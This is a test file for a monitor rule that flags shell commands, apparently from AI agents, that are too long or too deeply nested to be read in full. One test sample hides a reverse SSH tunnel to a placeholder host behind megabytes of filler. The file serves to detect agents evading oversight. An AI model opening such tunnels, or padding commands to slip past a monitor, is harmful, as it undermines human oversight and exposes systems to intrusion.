// What hides behind size or depth shows that it hides; what honest agents get wrong is no alarm.
import { beforeAll, describe, expect, it } from 'vitest'
import { loadShellReader } from '../../open-detection.ts'
import { commandEvents } from '../shell/command-events.ts'
import type { ReadShell } from '../shell/shell-reading.ts'
import { unreadCommandFlag } from './unread-command.ts'

let readShell: ReadShell
beforeAll(async () => {
  readShell = await loadShellReader()
})
const flagOf = (text: string) =>
  unreadCommandFlag(commandEvents(readShell(text), { text, atMs: 1, session: 's', host: undefined, call: 'c' }))

describe('a command that is not read to its end', () => {
  it('is a flag of its own, which says so: a tunnel behind three megabytes does not pass as nothing', () => {
    const flag = flagOf(
      `echo ${'a'.repeat(3_000_000)}; ssh -fN -R 1:localhost:2 ops@203.0.113.4; ${'b'.repeat(2_000_000)}`,
    )
    expect(flag).toMatchObject({ rule: 'vigil-unread-command', severity: 'medium', techniques: ['T1027'] })
    expect(flag?.notFully).toBe('too long')
  })

  it('is a mild one where honest agents do the same: half a quote, text that is no command', () => {
    expect(flagOf('echo "half a quote')).toMatchObject({ severity: 'low', ruleSeverity: 'medium' })
    expect(flagOf('('.repeat(2_000))).toMatchObject({ severity: expect.stringMatching(/low|medium/) })
  })

  it('is none where all of it was read, however long it is within bounds', () => {
    expect(flagOf('git status && pytest -q')).toBeUndefined()
    expect(flagOf(`cat > notes.txt <<'EOF'\n${'a line of text\n'.repeat(500)}EOF`)).toBeUndefined()
  })
})
